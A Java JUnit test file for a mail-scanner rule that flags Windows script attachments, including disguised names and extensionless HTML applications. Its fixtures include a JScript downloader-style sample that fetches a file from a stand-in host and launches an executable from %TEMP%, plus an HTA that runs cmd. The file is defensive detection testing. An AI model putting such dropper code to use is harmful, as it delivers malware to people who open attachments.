package org.peekaboo.ruleset;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.peekaboo.ruleset.testing.FakeFileTypeDetector;
import org.peekaboo.ruleset.testing.TestSamples;
import org.peekaboo.sample.FileTypeDetector;
import org.peekaboo.sample.TikaFileTypeDetector;
import org.peekaboo.verdict.Result;
import org.peekaboo.verdict.RuleResult;

class ScriptAttachmentRuleTest {
    private static final String JSCRIPT = """
            var shell = new ActiveXObject("WScript.Shell");
            var http = new ActiveXObject("MSXML2.XMLHTTP");
            http.open("GET", "http://example.invalid/invoice.bin", false);
            shell.Run("cmd /c start %TEMP%\\\\invoice.exe", 0);
            """;
    private static final FileTypeDetector TIKA = new TikaFileTypeDetector();

    private final ScriptAttachmentRule rule = new ScriptAttachmentRule();

    @TempDir
    Path dir;

    @Test
    void aJScriptAttachmentIsBad() throws IOException {
        RuleResult result = evaluate(JSCRIPT, "Rechnung_2026-11.pdf.js", "application/octet-stream", TIKA);

        assertThat(result).isEqualTo(RuleResult.stop("script_attachment", Result.BAD,
                "The file is a JScript file (.js): Windows runs it when it is opened"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"a.jse", "a.vbs", "A.VBE", "a.wsf", "a.wsh", "a.hta", "a.ps1", "a.bat", "a.cmd", "a.Js"})
    void everyScriptExtensionIsBadWhateverTheContent(String name) throws IOException {
        assertThat(evaluate("just some text\n", name, "text/plain", TIKA).result()).isEqualTo(Result.BAD);
    }

    @Test
    void trailingDotsDoNotHideTheExtension() throws IOException {
        // Windows saves "invoice.vbs. " as invoice.vbs.
        assertThat(evaluate("MsgBox 1\n", "invoice.vbs. ", null, TIKA).reason())
                .isEqualTo("The file is a VBScript file (.vbs): Windows runs it when it is opened");
    }

    @Test
    void aScriptWithoutExtensionIsJudgedByItsType() throws IOException {
        assertThat(evaluate(JSCRIPT, "invoice", "application/javascript", TIKA)).isEqualTo(RuleResult.stop(
                "script_attachment", Result.BAD, "The file is a script (application/javascript) without an extension:"
                        + " Windows runs it once it is saved under its type's extension"));
        assertThat(evaluate(JSCRIPT, null, null, FakeFileTypeDetector.reporting("text/x-vbscript", null)).result())
                .isEqualTo(Result.BAD);
    }

    @Test
    void aNamelessHtmlApplicationIsKnownByItsTag() throws IOException {
        // Tika calls it text/html, which the whitelist passes: a nameless member of an archive or OneNote file.
        String hta = "<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"/>\n<script language=\"VBScript\">"
                + "CreateObject(\"WScript.Shell\").Run \"cmd /c echo\"</script></head></html>\n";
        RuleResult result = evaluate(hta, null, null, TIKA);
        assertThat(result.result()).isEqualTo(Result.BAD);
        assertThat(result.reason()).contains("an HTML application");
        assertThat(evaluate("<html><body>Newsletter</body></html>\n", null, null, TIKA).result())
                .isEqualTo(Result.UNKNOWN);
    }

    @Test
    void aScriptNamedAsSomethingElseGoesOn() throws IOException {
        // Windows opens it by its extension, in an editor.
        assertThat(evaluate(JSCRIPT, "snippet.txt", "application/javascript", TIKA).furtherAnalysis()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"data.json", "page.html", "layout.xml", "notes.txt", "style.css", "app.jsx", "lib.mjs",
        "x.vbproj", "report.pdf", "jsfile", "archive.js.zip"})
    void otherFilesGoOn(String name) throws IOException {
        RuleResult result = evaluate("{\"a\": 1}\n", name, null, TIKA);

        assertThat(result).isEqualTo(RuleResult.proceed("script_attachment", Result.UNKNOWN,
                "The file is no Windows script"));
    }

    private RuleResult evaluate(String content, String name, String type, FileTypeDetector detector)
            throws IOException {
        return rule.evaluate(TestSamples.context(new TestSamples(dir).sample(content, name, type), detector));
    }
}
